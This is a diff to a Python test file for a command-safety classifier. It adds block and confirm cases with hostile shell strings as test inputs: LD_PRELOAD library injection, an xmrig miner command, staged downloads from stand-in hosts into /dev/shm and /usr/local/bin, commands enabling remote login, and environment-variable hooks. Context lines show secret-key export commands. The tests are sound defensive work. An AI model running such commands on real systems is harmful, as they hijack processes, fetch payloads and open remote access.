@@ -138,6 +138,30 @@ CASES: dict[str, tuple[list[str], list[str]]] = {
          "security find-generic-password -s github -w", "gpg --export-secret-keys", "openssl rsa -in server.key"],
         ["cat .env.example", "cat ~/.ssh/id_rsa.pub", "cat ~/.ssh/known_hosts", "ls ~/.ssh", "cat README.md"],
     ),
+    "block.shell.loader-hook": (
+        ["LD_PRELOAD=/tmp/hook.so ls", "export LD_AUDIT=./audit.so; make", "DYLD_INSERT_LIBRARIES=lib.dylib open -a X"],
+        ["LD_PRELOAD= ls", "ldd /bin/ls", "echo $LD_PRELOAD"],
+    ),
+    "block.shell.miner": (
+        ["./xmrig -o stratum+tcp://pool.example:3333 -u wallet", "nohup ./worker --donate-level 1 -o p.example:443 &"],
+        ["./build/worker --threads 4", "cargo run --release -- --algo quicksort"],
+    ),
+    "confirm.shell.staged-download": (
+        ["curl -o /usr/local/bin/helper https://x.example/h", "wget -O /dev/shm/k https://x.example/k",
+         "curl -s http://203.0.113.5/agent -o agent", "wget http://198.51.100.7/x"],
+        ["curl -o data.json https://api.example.com/data", "wget https://example.org/file.tar.gz",
+         "curl http://127.0.0.1:8000/health"],
+    ),
+    "block.shell.remote-access": (
+        ["systemsetup -setremotelogin on", "sysadminctl -smbGuestAccess on"],
+        ["systemsetup -getremotelogin", "sysadminctl -guestAccount status"],
+    ),
+    "confirm.shell.env-hook": (
+        ["BASH_ENV=~/.x bash build.sh", "PYTHONPATH=/tmp python3 app.py", "NODE_OPTIONS='--require ./x.js' node a.js",
+         "GIT_SSH_COMMAND='ssh -i k' git fetch", "PATH=/tmp/bin:$PATH make", "LESSOPEN='|lesspipe %s' less f"],
+        ["NODE_ENV=production node a.js", "PATH=$PATH:/opt/tool/bin make", "EDITOR=vim git commit",
+         "PYTHONPATH=src python3 -m app"],
+    ),
     "confirm.shell.persistence": (
         ["crontab -e", "crontab jobs.txt", "crontab -r", "echo 'export PATH=$PATH:~/bin' >> ~/.bashrc",
          "cp agent.service /etc/systemd/system/", "systemctl enable agent", "tee -a ~/.zshrc < snippet",
@@ -399,7 +423,7 @@ def test_ordinary_commands_are_allowed(command: str) -> None:
     assert got.decision is Decision.ALLOW, (command, got.rules)
 
 
-@pytest.mark.parametrize("command", ["find . -name '*.pyc' -delete", "pip install requests", "rm -rf src/legacy"])
+@pytest.mark.parametrize("command", ["find . -name '*.log' -delete", "pip install requests", "rm -rf src/legacy"])
 def test_risky_but_legitimate_asks_and_is_never_blocked(command: str) -> None:
     assert assess(command).decision is Decision.CONFIRM
 
